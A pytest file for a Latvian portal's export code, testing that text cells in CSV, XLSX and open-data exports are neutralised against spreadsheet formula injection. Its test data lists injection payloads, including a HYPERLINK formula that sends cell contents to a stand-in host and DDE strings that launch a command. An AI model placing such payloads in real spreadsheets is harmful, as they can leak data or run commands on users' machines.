"""Spreadsheet formula injection: every export the portal writes — open data and the admin's
CSV/XLSX export of activities and measurements — passes text cells through the one guard in
``partners.spreadsheets``; numbers stay numbers; a file the portal exported imports back as it was."""

import csv
import io
import re
from decimal import Decimal

import pytest
from import_export.formats.base_formats import XLSX
from openpyxl import load_workbook

from indicators.models import Indicator
from partners import roles, spreadsheets
from partners.models import LAG
from strategy.importing.formats import LatvianCSV
from strategy.models import Activity
from strategy.resources import ActivityResource
from strategy.workflow import Status
from tests import factories

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?x="&A1;"Klikšķiniet")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(attack, "'" + attack) for attack in ATTACKS],
        ("Talka Ambeļos", "Talka Ambeļos"),
        ("-12.50", "-12.50"),  # a negative number is a number
        ("-12,50", "-12,50"),
        ("", ""),
        (None, None),
        (Decimal("-5"), Decimal("-5")),
    ],
)
def test_neutralise_prefixes_every_formula_start_and_leaves_numbers(value, expected):
    assert spreadsheets.neutralise(value) == expected


@pytest.mark.parametrize("attack", ATTACKS)
def test_restore_undoes_neutralise(attack):
    assert spreadsheets.restore(spreadsheets.neutralise(attack)) == attack
    assert spreadsheets.restore("'nav formula") == "'nav formula"


def admin_export(client, model, fmt_index):
    """Export the model's list through the admin's export page with every column selected."""
    url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/export/"
    page = client.get(url).content.decode()
    boxes = set(re.findall(r'type="checkbox" name="([^"]+)"', page))
    assert boxes, "the export page offers the columns"
    response = client.post(url, {"format": str(fmt_index), "resource": "0", **dict.fromkeys(boxes, "on")})
    assert response.status_code == 200, response.content[:500]
    return response.content


def rows_of(content, fmt_index):
    if fmt_index == 0:
        text = content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text), delimiter=";"))
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def kaimini(strategy):
    return LAG.objects.get(slug="kaimini")


@pytest.mark.parametrize("fmt_index", [0, 1], ids=["csv", "xlsx"])
def test_admin_activity_export_neutralises_formulas_in_text_cells(client, kaimini, fmt_index):
    coordinator = factories.user(role=roles.COORDINATOR, lag=kaimini)
    for n, attack in enumerate(ATTACKS):
        factories.activity(
            lag=kaimini, title_lv=attack, venue=attack, summary_lv=attack, participants_total=10 + n
        )
    client.force_login(coordinator)

    rows = rows_of(admin_export(client, Activity, fmt_index), fmt_index)

    header, *body = rows
    # (a workbook stores a carriage return as a line feed)
    cells = [cell.replace("\r", "\n") for row in body for cell in row if isinstance(cell, str)]
    for attack in ATTACKS:
        assert cells.count("'" + attack.replace("\r", "\n")) == 3  # title, summary, venue
    assert not [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
    totals = [row[header.index("dalībnieki kopā")] for row in body]
    assert sorted(int(t) for t in totals) == list(range(10, 10 + len(ATTACKS)))


@pytest.mark.parametrize("fmt_index", [0, 1], ids=["csv", "xlsx"])
def test_admin_measurement_export_neutralises_a_note_and_keeps_the_value(client, kaimini, fmt_index):
    coordinator = factories.user(role=roles.COORDINATOR, lag=kaimini)
    indicator = Indicator.objects.get(code="K4")
    factories.measurement(lag=kaimini, indicator=indicator, value=Decimal("3.50"), note="=1+1")
    client.force_login(coordinator)

    header, *body = rows_of(admin_export(client, indicator.measurements.model, fmt_index), fmt_index)

    (row,) = body
    assert row[header.index("piezīme")] == "'=1+1"
    assert row[header.index("vērtība")] in ("3,50", Decimal("3.50"), 3.5)


@pytest.mark.parametrize("fmt", [LatvianCSV(), XLSX()], ids=["csv", "xlsx"])
def test_exported_neutralised_titles_import_back_unchanged(kaimini, fmt):
    editor = factories.user(role=roles.EDITOR, lag=kaimini)
    for attack in ATTACKS:
        factories.activity(lag=kaimini, title_lv=attack.strip())
    titles = sorted(Activity.objects.values_list("title_lv", flat=True))

    exported = fmt.export_data(ActivityResource(user=editor).export(Activity.objects.all()))
    Activity.objects.all().delete()
    result = ActivityResource(user=editor).import_data(
        fmt.create_dataset(exported), use_transactions=True, rollback_on_validation_errors=True
    )

    assert not result.has_errors() and not result.has_validation_errors()
    assert sorted(Activity.objects.values_list("title_lv", flat=True)) == titles


def test_open_data_workbook_neutralises_text_and_keeps_numbers_as_numbers(client, kaimini):
    factories.activity(lag=kaimini, title_lv="@SUM(A1:A9)", participants_total=7, status=Status.APPROVED)
    sheet = load_workbook(io.BytesIO(client.get("/lv/open-data/activities.xlsx").getvalue())).active
    header, *body = [list(row) for row in sheet.iter_rows(values_only=True)]
    (row,) = body
    assert row[header.index("title_lv")] == "'@SUM(A1:A9)"
    assert row[header.index("participants_total")] == 7
